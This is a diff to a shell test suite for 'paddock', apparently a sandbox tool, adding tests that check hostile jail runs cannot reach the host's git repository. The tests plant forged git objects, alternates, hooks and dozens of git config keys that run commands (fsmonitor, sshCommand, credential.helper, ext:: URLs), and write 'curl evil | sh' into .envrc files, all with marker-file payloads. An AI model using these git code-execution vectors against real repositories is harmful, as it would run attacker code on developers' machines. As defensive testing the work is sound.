@@ -33,7 +33,7 @@ if [ "$who" = __inner ]; then
   prefix=t$$
   jails=()
   cleanup() {
-    for j in "${jails[@]}"; do "$P" jail rm "$j" >/dev/null 2>&1 || true; done
+    for j in "${jails[@]}"; do "$P" jail rm --force "$j" >/dev/null 2>&1 || true; done
     chmod -R u+rwx "$work" 2>/dev/null || true
     rm -rf "$work"
   }
@@ -179,9 +179,17 @@ $want"
   done
 
   # rm of a worktree jail unregisters the worktree and keeps its branch (it may hold the work).
+  # Work that is not committed on the branch (the file `commits`, written after the commit) is
+  # lost by rm: refused, naming it, without --force (as `git worktree remove`).
   tc=worktree-rm
   name=$prefix-worktree-stable
-  if "$P" jail rm "$name" >/dev/null 2>&1; then
+  if "$P" jail rm "$name" >/dev/null 2>"$work/err"; then
+    fail "rm of a worktree with uncommitted work succeeded without --force"
+  else
+    grep -q "commits" "$work/err" && grep -q -- "--force" "$work/err" && ok ||
+      fail "the refusal does not name what would be lost: $(cat "$work/err")"
+  fi
+  if "$P" jail rm --force "$name" >/dev/null 2>&1; then
     git -C "$work/src-worktree-stable" worktree list | grep -q "$name" && fail "the worktree is still registered" || ok
     git -C "$work/src-worktree-stable" rev-parse --verify -q "paddock/$name" >/dev/null && ok || fail "rm deleted the branch"
   else
@@ -254,6 +262,298 @@ $name" ] && ok || fail "bubblewrap: workspace, HOME or PADDOCK_JAIL wrong: $out"
   else grep -q "can be written by other users" "$work/err" && ok || fail "no refusal message: $(cat "$work/err")"; fi
   expect "rm of a jail with a planted symlink" "$P" jail rm "$name"
   [ "$(cat "$victim")" = precious ] && ok || fail "rm followed the planted symlink"
+
+  # ---- The jail doors of issue 25 (docs/isolation.md, doors x classes) ----
+
+  # Class 3: a worktree jail's runs never write the source's objects. Inside, the loose object of
+  # the source HEAD's root tree is rewritten to also hold an .envrc (git does not re-hash a loose
+  # object on read: the host's `git reset --hard` would then write it), objects/info/alternates is
+  # planted, the read-only view is written to, and the jail's ref is pointed at an object that does
+  # not exist. Afterwards the host's git reads the source's own objects; a commit made inside is
+  # published on the jail's branch.
+  plant_tree='set -e
+obj_path() { printf "%s/%s/%s" "$1" "$(printf %s "$2" | cut -c1-2)" "$(printf %s "$2" | cut -c3-)"; }
+objects=$(git rev-parse --git-common-dir)/objects
+tree=$(git rev-parse "${REV:-HEAD}^{tree}")
+d=$(mktemp -d)
+b=$(printf "touch %s\n" "$MARK" | GIT_OBJECT_DIRECTORY=$d git hash-object -w --stdin)
+t=$( (git ls-tree "${REV:-HEAD}"; printf "100644 blob %s\t.envrc\n" "$b") | GIT_OBJECT_DIRECTORY=$d GIT_ALTERNATE_OBJECT_DIRECTORIES=$objects git mktree)
+target=$(obj_path "$objects" "$tree")
+mkdir -p "$(dirname "$target")" "$(dirname "$(obj_path "$objects" "$b")")"
+cp "$(obj_path "$d" "$b")" "$(obj_path "$objects" "$b")" 2>/dev/null || true
+rm -f "$target"
+cp "$(obj_path "$d" "$t")" "$target"'
+  # Without paddock the attack works (so the checks below can fail): the host's reset writes it.
+  tc=class3-control
+  make_source "$work/src-control"
+  # (git 2.39 writes the file, then may crash on the mismatching tree: its exit status is no evidence.)
+  MARK=$work/control-mark PLANT=$plant_tree sh -c 'cd "$1" && sh -c "$PLANT" && git reset -q --hard' - "$work/src-control" \
+    >/dev/null 2>&1 || true
+  [ -f "$work/src-control/.envrc" ] && ok || fail "the loose-object attack does not work even without paddock"
+  tc=class3-worktree-objects
+  src=$work/src-objects; make_source "$src"
+  name=$prefix-objects
+  "$P" jail create "$name" --workspace worktree --source "$src" 2>/dev/null && jails+=("$name") || fail "create"
+  common=$src/.git
+  before_main=$(git -C "$src" rev-parse main)
+  "$P" jail exec "$name" "${gitenv[@]}" -- sh -c 'echo inside >inside.txt; git add inside.txt; git commit -q -m inside' \
+    >"$work/out" 2>&1 || fail "commit inside: $(cat "$work/out")"
+  if "$P" jail exec "$name" --env MARK="$work/c3-mark" --env REV=main -- sh -c "$plant_tree
+echo /etc >'$common/objects/info/alternates'
+echo x >'$common/objects/.paddock-source/x' 2>/dev/null && echo WROTE-SOURCE-VIEW
+true" >"$work/out" 2>&1; then ok
+  else fail "the attack did not run inside: $(cat "$work/out")"; fi
+  grep -q WROTE-SOURCE-VIEW "$work/out" && fail "the read-only view of the source's objects was writable" || ok
+  [ ! -e "$common/objects/info/alternates" ] && ok || fail "objects/info/alternates planted in the source"
+  (cd "$src" && git reset -q --hard; git checkout -q -f HEAD) >/dev/null 2>&1 || true
+  [ ! -e "$src/.envrc" ] && [ ! -e "$work/c3-mark" ] && ok || fail "the host's git reset wrote the run's .envrc"
+  git -C "$src" ls-tree --name-only HEAD | grep -q envrc && fail "the source's HEAD tree holds the run's .envrc" || ok
+  [ "$(git -C "$src" rev-parse main)" = "$before_main" ] && ok || fail "main moved"
+  git -C "$src" cat-file -e "paddock/$name:inside.txt" 2>/dev/null && ok || fail "the commit made inside is not on paddock/$name"
+  git -C "$src" fsck --no-dangling >"$work/fsck" 2>&1 && ok || fail "the source repository does not fsck: $(cat "$work/fsck")"
+  # A ref moved to an object the repository does not have is put back, and said.
+  good=$(git -C "$src" rev-parse "paddock/$name")
+  "$P" jail exec "$name" -- sh -c "echo 0123456789012345678901234567890123456789 >'$common/refs/heads/paddock/$name'" \
+    >/dev/null 2>"$work/err" || true
+  [ "$(git -C "$src" rev-parse "paddock/$name")" = "$good" ] && ok || fail "a ref naming a missing object was published"
+  grep -q "not published" "$work/err" && ok || fail "the ref that was put back is not said: $(cat "$work/err")"
+
+  # Class 3, `paddock run` in a linked worktree of a repository: the same.
+  tc=class3-linked-worktree
+  src=$work/src-objects-linked; make_source "$src"
+  git -C "$src" worktree add -q "$work/linked-objects" -b linked-objects
+  if (cd "$work/linked-objects" && MARK=$work/c3-linked-mark "$P" run --no-diagnostics --env MARK -- sh -c "$plant_tree") \
+       >"$work/out" 2>&1; then ok; else fail "the attack did not run inside: $(cat "$work/out")"; fi
+  (cd "$src" && git reset -q --hard) >/dev/null 2>&1 || true
+  [ ! -e "$src/.envrc" ] && ok || fail "the host's git reset wrote the run's .envrc (linked worktree)"
+  [ ! -e "$src/.git/objects/info/alternates" ] && ok || fail "alternates planted (linked worktree)"
+
+  # Class 4: paddock's own git on what a run wrote runs nothing. The run plants every key that
+  # names a program git runs (git-config(1), git 2.39: each with a payload leaving a marker named
+  # after it), where it can: the worktree's config.worktree (read by git once the repository has
+  # extensions.worktreeConfig, as the source here does), its git directory, the workspace's
+  # .gitattributes and a core.attributesFile, every hook through core.hooksPath, a repository
+  # nested in the workspace; copy and overlay jails in their copy of .git. Then every door that
+  # runs git: diff, diff --name-status, sync --patch, --to-branch, --apply, rm's check.
+  tc=class4-host-git
+  marks=$work/marks; mkdir -p "$marks"; chmod 777 "$marks"
+  cfg=$work/pwn-config; : >"$cfg"
+  for k in core.fsmonitor core.sshCommand core.pager core.editor core.askPass core.gitProxy \
+           core.alternateRefsCommand sequence.editor diff.external diff.pwn.command diff.pwn.textconv \
+           filter.pwn.clean filter.pwn.smudge filter.pwn.process merge.pwn.driver alias.add alias.pwn \
+           credential.helper gpg.program gpg.ssh.program gpg.x509.program gpg.ssh.defaultKeyCommand \
+           pager.diff pager.diff-tree pager.add pager.apply pager.commit-tree pager.log web.browser \
+           browser.pwn.cmd difftool.pwn.cmd mergetool.pwn.cmd remote.origin.uploadpack \
+           remote.origin.receivepack trailer.pwn.command trailer.pwn.cmd man.pwn.cmd \
+           submodule.pwn.update uploadpack.packObjectsHook; do
+    # Aliases, credential helpers and submodule update commands run with a leading "!".
+    case "$k" in alias.*|credential.*|submodule.*) bang='!' ;; *) bang='' ;; esac
+    git config -f "$cfg" "$k" "${bang}touch $marks/$k; cat"
+  done
+  for kv in commit.gpgSign=true tag.gpgSign=true log.showSignature=true user.signingKey=pwn gpg.format=openpgp \
+            diff.tool=pwn merge.tool=pwn protocol.ext.allow=always "remote.origin.url=ext::sh -c touch% $marks/ext" \
+            filter.pwn.required=true core.hooksPath=.pwnhooks core.attributesFile=.pwnattributes \
+            gc.auto=1 core.fsmonitorHookVersion=2; do
+    git config -f "$cfg" "${kv%%=*}" "${kv#*=}"
+  done
+  hooks='applypatch-msg pre-applypatch post-applypatch pre-commit pre-merge-commit prepare-commit-msg commit-msg
+post-commit pre-rebase post-checkout post-merge pre-push pre-receive update proc-receive post-receive post-update
+reference-transaction push-to-checkout pre-auto-gc post-rewrite sendemail-validate fsmonitor-watchman
+post-index-change'
+  plant_config="set -e
+mkdir -p .pwnhooks nested
+for h in $(echo $hooks); do printf '#!/bin/sh\ntouch $marks/hook-%s\ncat >/dev/null 2>&1 || true\n' \$h >.pwnhooks/\$h; chmod +x .pwnhooks/\$h; done
+printf '* filter=pwn diff=pwn merge=pwn text eol=crlf ident working-tree-encoding=UTF-16\n' >.gitattributes
+cp .gitattributes .pwnattributes
+echo 'pwn text' >a.txt
+(cd nested && git init -q && git commit -q --allow-empty -m n && printf '%s\\n' \"\$PWN_CONFIG\" >>.git/config && cp -r ../.pwnhooks/. .git/hooks/ && echo n >n) >/dev/null 2>&1 || true
+gd=\$(git rev-parse --git-dir 2>/dev/null || echo .git)
+printf '%s\\n' \"\$PWN_CONFIG\" >>\"\$gd/config.worktree\" 2>/dev/null || true
+printf '%s\\n' \"\$PWN_CONFIG\" >>\"\$gd/config\" 2>/dev/null || true
+mkdir -p \"\$gd/info\" 2>/dev/null && cp .gitattributes \"\$gd/info/attributes\" 2>/dev/null || true
+mkdir -p \"\$gd/hooks\" 2>/dev/null && cp -r .pwnhooks/. \"\$gd/hooks/\" 2>/dev/null || true
+true"
+  for ws in worktree copy overlay; do
+    src=$work/src-c4-$ws; make_source "$src"
+    git -C "$src" config extensions.worktreeConfig true
+    git -C "$src" config core.repositoryformatversion 1
+    name=$prefix-c4-$ws
+    "$P" jail create "$name" --workspace "$ws" --source "$src" 2>/dev/null && jails+=("$name") || { fail "$ws: create"; continue; }
+    "$P" jail exec "$name" "${gitenv[@]}" --env PWN_CONFIG="$(cat "$cfg")" -- sh -c "$plant_config" >"$work/out" 2>&1 ||
+      fail "$ws: planting: $(cat "$work/out")"
+    rm -f "$marks"/*  # what git did inside the sandbox does not count
+    "$P" jail diff "$name" >/dev/null 2>&1 || fail "$ws: diff"
+    "$P" jail diff "$name" --name-status >/dev/null 2>&1 || fail "$ws: diff --name-status"
+    "$P" jail sync "$name" --patch "$work/c4-$ws.patch" >/dev/null 2>&1 || fail "$ws: sync --patch"
+    "$P" jail sync "$name" --to-branch "c4-$ws" >/dev/null 2>"$work/err" || fail "$ws: sync --to-branch: $(cat "$work/err")"
+    "$P" jail sync "$name" --apply >/dev/null 2>"$work/err" || fail "$ws: sync --apply: $(cat "$work/err")"
+    "$P" jail rm "$name" >/dev/null 2>&1 || true
+    ran=$(ls "$marks")
+    [ -z "$ran" ] && ok || fail "$ws: paddock's git on the host ran what the run planted: $(echo $ran)"
+    rm -f "$marks"/*
+    # What was applied is the bytes the run wrote: nothing filtered or converted on the way.
+    [ "$(cat "$src/a.txt")" = "pwn text" ] && ok || fail "$ws: a.txt was not applied as written: $(od -c "$src/a.txt" | head -2)"
+  done
+
+  # Class 5: sync filters by literal path through the gate, not by pattern: a protected file
+  # under a directory named with glob characters is held back by --apply in every mode.
+  tc=class5-literal-paths
+  for ws in worktree copy overlay; do
+    src=$work/src-c5-$ws; make_source "$src"
+    name=$prefix-c5-$ws
+    "$P" jail create "$name" --workspace "$ws" --source "$src" 2>/dev/null && jails+=("$name") || { fail "$ws: create"; continue; }
+    "$P" jail exec "$name" -- sh -c 'mkdir -p "pkg[1]" "a*" && echo evil >"pkg[1]/.envrc" && echo ok >"pkg[1]/ok.txt" &&
+      echo evil >"a*/.envrc"' >/dev/null 2>&1 || fail "$ws: exec"
+    "$P" jail sync "$name" --apply >"$work/out" 2>"$work/err" || fail "$ws: --apply: $(cat "$work/err")"
+    [ ! -e "$src/pkg[1]/.envrc" ] && [ ! -e "$src/a*/.envrc" ] && ok || fail "$ws: a protected file under a glob-named directory was applied"
+    [ "$(cat "$src/pkg[1]/ok.txt" 2>/dev/null)" = ok ] && ok || fail "$ws: pkg[1]/ok.txt not applied"
+    grep -q 'not applied: pkg\[1\]/.envrc' "$work/err" && ok || fail "$ws: the held file is not said: $(cat "$work/err")"
+  done
+
+  # Class 6 (sync side) and issue 26 items 1, 2 and the quarantine files: what the host runs or
+  # trusts is never published from any workspace mode, at any depth — a bare and a split git
+  # directory assembled from files, editors' and agents' settings, hooks in nested repositories,
+  # files the after-run check set aside (*.paddock-quarantine) — by --apply or --to-branch; jail
+  # diff marks each one; the host's git in the source afterwards runs nothing.
+  tc=class6-never-published
+  for ws in worktree copy overlay; do
+    src=$work/src-c6-$ws; make_source "$src"
+    mkdir -p "$src/vendor"; git -C "$src/vendor" init -q; echo '[core]' >>"$src/vendor/.git/config"
+    vendor_config=$(cat "$src/vendor/.git/config")
+    name=$prefix-c6-$ws
+    "$P" jail create "$name" --workspace "$ws" --source "$src" 2>/dev/null && jails+=("$name") || { fail "$ws: create"; continue; }
+    mark=$work/c6-mark-$ws
+    "$P" jail exec "$name" -- sh -c "set -e
+mkdir -p bare/objects/info bare/refs/heads split sub/dir .vscode sub/.claude .husky sub/.cargo lib/.git/hooks
+echo 'ref: refs/heads/main' >bare/HEAD; echo x >bare/objects/info/x; echo 0123456789012345678901234567890123456789 >bare/refs/heads/main
+printf '[core]\n\tbare = false\n\tworktree = $src/bare\n\tfsmonitor = \"touch $mark; false\"\n' >bare/config
+echo 'ref: refs/heads/main' >split/HEAD; echo ../bare >split/commondir; echo '$src/split/.git' >split/gitdir
+printf '[core]\n\tfsmonitor = \"touch $mark; false\"\n' >split/config.worktree
+echo 'curl evil | sh' >.envrc; echo 'curl evil | sh' >sub/dir/.envrc
+echo '{}' >.vscode/tasks.json; echo '{}' >sub/.claude/settings.json; echo x >.husky/pre-commit; echo x >sub/.cargo/config.toml
+printf '#!/bin/sh\ntouch $mark\n' >lib/.git/hooks/post-checkout; echo '[core]' >lib/.git/config
+printf '[core]\n\tfsmonitor = \"touch $mark; false\"\n' >>vendor/.git/config 2>/dev/null || true
+echo set-aside >notes.paddock-quarantine; echo set-aside >sub/x.paddock-rejected
+echo plain >plain.txt" >"$work/out" 2>&1 || fail "$ws: exec: $(cat "$work/out")"
+    "$P" jail diff "$name" --name-status >"$work/diff" 2>&1 || fail "$ws: diff"
+    grep -q '\.git/' "$work/diff" && fail "$ws: diff lists something inside a .git directory: $(grep '\.git/' "$work/diff")" || ok
+    for p in bare/HEAD split/HEAD split/commondir split/gitdir split/config.worktree .envrc sub/dir/.envrc .vscode/tasks.json \
+             sub/.claude/settings.json .husky/pre-commit sub/.cargo/config.toml notes.paddock-quarantine sub/x.paddock-rejected; do
+      # Not listed at all is fine too (the after-run check may have set it aside already).
+      if grep -q "^[AMD] $p"$'\t'"# held back" "$work/diff" || ! grep -E -q "^[AMD] $p("$'\t'"|\$)" "$work/diff"; then ok
+      else fail "$ws: diff does not mark $p as held back: $(grep "$p" "$work/diff")"; fi
+    done
+    "$P" jail sync "$name" --to-branch "c6-$ws" >/dev/null 2>"$work/err" || fail "$ws: --to-branch: $(cat "$work/err")"
+    listed=$(git -C "$src" ls-tree -r --name-only "c6-$ws" 2>/dev/null)
+    printf '%s\n' "$listed" | grep -q '^plain.txt$' && ok || fail "$ws: the branch lacks plain.txt"
+    printf '%s\n' "$listed" | grep -E -q '(^|/)(HEAD|commondir|gitdir|config.worktree|\.envrc|tasks\.json|settings\.json|pre-commit|config\.toml|[^/]*\.paddock-(quarantine|rejected))$' &&
+      fail "$ws: the branch carries what the host runs: $(printf '%s\n' "$listed" | grep -E '(HEAD|commondir|envrc|json|pre-commit|toml|paddock-)')" || ok
+    "$P" jail sync "$name" --apply >/dev/null 2>"$work/err" || fail "$ws: --apply: $(cat "$work/err")"
+    [ "$(cat "$src/plain.txt" 2>/dev/null)" = plain ] && ok || fail "$ws: plain.txt not applied"
+    for p in bare/HEAD split/HEAD split/commondir split/gitdir split/config.worktree .envrc sub/dir/.envrc .vscode/tasks.json \
+             sub/.claude/settings.json .husky/pre-commit sub/.cargo/config.toml lib/.git notes.paddock-quarantine \
+             sub/x.paddock-rejected .envrc.paddock-quarantine; do
+      [ ! -e "$src/$p" ] && ok || fail "$ws: --apply published $p"
+    done
+    [ "$(cat "$src/vendor/.git/config")" = "$vendor_config" ] && ok || fail "$ws: --apply changed a nested repository's config"
+    for d in bare split sub vendor .; do [ -d "$src/$d" ] && (cd "$src/$d" && git status >/dev/null 2>&1 || true); done
+    [ ! -e "$mark" ] && ok || fail "$ws: the host's git ran what the jail published"
+  done
+
+  # Class 6, after --apply: what names alone do not give away — the source holds a directory with
+  # HEAD and refs/ but no objects/, and the jail adds, in two runs (so that no single run made a
+  # repository the after-run check would see), a config naming core.fsmonitor and an objects/
+  # directory: once applied, git takes the directory for a repository with that config. The
+  # gate's check after the write moves the config aside, and says so.
+  tc=class6-after-apply
+  for ws in worktree copy overlay; do
+    src=$work/src-c6a-$ws; make_source "$src"
+    mkdir -p "$src/sub/refs/heads"; echo 'ref: refs/heads/main' >"$src/sub/HEAD"; echo k >"$src/sub/refs/heads/.keep"
+    git -C "$src" add -A; git -C "$src" commit -q -m sub
+    name=$prefix-c6a-$ws
+    "$P" jail create "$name" --workspace "$ws" --source "$src" 2>/dev/null && jails+=("$name") || { fail "$ws: create"; continue; }
+    "$P" jail exec "$name" -- sh -c "printf '[core]\n\tbare = false\n\tfsmonitor = \"touch $work/c6a-mark; false\"\n' >sub/config" \
+      >/dev/null 2>&1 || fail "$ws: exec 1"
+    "$P" jail exec "$name" -- sh -c 'mkdir -p sub/objects/info && echo x >sub/objects/info/x' >/dev/null 2>&1 || fail "$ws: exec 2"
+    "$P" jail sync "$name" --apply >/dev/null 2>"$work/err" || fail "$ws: --apply: $(cat "$work/err")"
+    [ -f "$src/sub/objects/info/x" ] && ok || fail "$ws: sub/objects/info/x not applied"
+    [ ! -e "$src/sub/config" ] && ok || fail "$ws: a repository assembled in the source by --apply kept the run's config"
+    grep -q "$src/sub/config" "$work/err" && ok || fail "$ws: the check after --apply does not say what it moved: $(cat "$work/err")"
+  done
+
+  # Issue 26 item 5: a worktree jail writes no ref of the source but its own refs/heads/paddock/*.
+  tc=worktree-refs
+  src=$work/src-refs; make_source "$src"
+  name=$prefix-refs
+  "$P" jail create "$name" --workspace worktree --source "$src" 2>/dev/null && jails+=("$name") || fail "create"
+  main_before=$(git -C "$src" rev-parse main)
+  "$P" jail exec "$name" "${gitenv[@]}" -- sh -c "git commit -q --allow-empty -m x
+git update-ref refs/heads/main HEAD; git tag t1; git branch other; git update-ref refs/remotes/o/x HEAD
+echo \$(git rev-parse HEAD) >'$src/.git/refs/heads/main'; echo \$(git rev-parse HEAD) >'$src/.git/refs/tags/t2'
+echo 'ref: refs/heads/other' >'$src/.git/HEAD'; echo >>'$src/.git/packed-refs'
+git update-ref refs/heads/paddock/$name-own HEAD; true" >/dev/null 2>&1 || true
+  [ "$(git -C "$src" rev-parse main)" = "$main_before" ] && ok || fail "the jail moved main"
+  [ "$(git -C "$src" symbolic-ref HEAD)" = refs/heads/main ] && ok || fail "the jail changed the source's HEAD"
+  for r in refs/tags/t1 refs/tags/t2 refs/heads/other refs/remotes/o/x; do
+    git -C "$src" rev-parse -q --verify "$r" >/dev/null && fail "the jail wrote $r" || ok
+  done
+  git -C "$src" rev-parse -q --verify "refs/heads/paddock/$name-own" >/dev/null && ok || fail "the jail could not write its own refs/heads/paddock/*"
+
+  # Issue 26 item 4: sync takes the exclusive lock: refused while a command runs in the jail.
+  tc=sync-lock
+  name=$prefix-synclock
+  "$P" jail create "$name" --workspace copy --source "$work/src-refused" 2>/dev/null && jails+=("$name") || fail "create"
+  "$P" jail exec "$name" -- sh -c 'echo l >locked.txt; sleep 3' >/dev/null 2>&1 &
+  pl=$!
+  sleep 1
+  for how in "--patch $work/lock.patch" "--apply" "--to-branch locked"; do
+    # shellcheck disable=SC2086
+    if "$P" jail sync "$name" $how >/dev/null 2>"$work/err"; then fail "sync $how ran while a command ran"
+    else grep -q "in use" "$work/err" && ok || fail "sync $how refusal: $(cat "$work/err")"; fi
+  done
+  wait "$pl" || true
+  [ ! -e "$work/lock.patch" ] && [ ! -e "$work/src-refused/locked.txt" ] && ok || fail "a refused sync wrote"
+
+  # Issue 26 item 3: a jail store or a jail root owned by another uid is refused (the mode
+  # refusal is tested by hostile-run).
+  tc=owner
+  if [ "$(id -u)" = 0 ]; then
+    name=$prefix-owner
+    "$P" jail create "$name" --workspace copy --source "$work/src-refused" 2>/dev/null && jails+=("$name") || fail "create"
+    root=$("$P" jail show "$name" | sed -n 's/^  "jail_root": "\(.*\)",$/\1/p')
+    chown 12345 "$root"
+    if "$P" jail exec "$name" -- true 2>"$work/err"; then fail "exec in a jail root owned by another uid ran"
+    else grep -q "owned by uid 12345" "$work/err" && ok || fail "no owner refusal: $(cat "$work/err")"; fi
+    chown 0 "$root"
+    mkdir -p "$work/foreign-store"; chmod 700 "$work/foreign-store"; chown 12345 "$work/foreign-store"
+    if PADDOCK_JAILS_DIR=$work/foreign-store "$P" jail list 2>"$work/err"; then fail "a store owned by another uid was used"
+    else grep -q "owned by uid 12345" "$work/err" && ok || fail "no store owner refusal: $(cat "$work/err")"; fi
+  else
+    # /var/tmp is root's: a store there is someone else's.
+    if PADDOCK_JAILS_DIR=/var/tmp "$P" jail list 2>"$work/err"; then fail "a store owned by root was used"
+    else grep -q "owned by uid 0" "$work/err" && ok || fail "no store owner refusal: $(cat "$work/err")"; fi
+  fi
+
+  # jail rm: a tree deeper than the descriptors allow is removed whole (it was left half removed
+  # as .removing-*, EMFILE), and work that is not in the source is not lost without --force.
+  tc=rm
+  name=$prefix-deep
+  "$P" jail create "$name" --workspace copy --source "$work/src-refused" 2>/dev/null && jails+=("$name") || fail "create"
+  store=$(dirname "$("$P" jail show "$name" | sed -n 's/^  "jail_root": "\(.*\)",$/\1/p')")
+  "$P" jail exec "$name" -- sh -c 'echo unsynced >u.txt; i=0; while [ $i -lt 1500 ]; do mkdir d; cd d; i=$((i+1)); done' \
+    >/dev/null 2>&1 || fail "exec: a deep tree"
+  if "$P" jail rm "$name" 2>"$work/err"; then fail "rm of a jail with unsynced work succeeded without --force"
+  else grep -q -- "--force" "$work/err" && ok || fail "rm's refusal: $(cat "$work/err")"; fi
+  "$P" jail show "$name" >/dev/null 2>&1 && ok || fail "the refused rm removed the jail"
+  if (ulimit -n 1024; "$P" jail rm --force "$name") >/dev/null 2>"$work/err"; then ok; else fail "rm --force of a deep tree: $(cat "$work/err")"; fi
+  ls -A "$store" | grep -q "^\.removing-$name" && fail "rm left $(ls -A "$store" | grep removing)" || ok
+  name=$prefix-unsynced
+  "$P" jail create "$name" --workspace copy --source "$work/src-refused" 2>/dev/null && jails+=("$name") || fail "create"
+  "$P" jail exec "$name" -- sh -c 'echo new >new.txt' >/dev/null 2>&1
+  if "$P" jail rm "$name" 2>"$work/err"; then fail "rm of unsynced work succeeded"
+  else grep -q "new.txt" "$work/err" && ok || fail "rm does not say what would be lost: $(cat "$work/err")"; fi
+  "$P" jail sync "$name" --apply >/dev/null 2>&1 || fail "sync"
+  expect "rm after sync needs no --force" "$P" jail rm "$name"
 
   # Bad names.
   tc=names
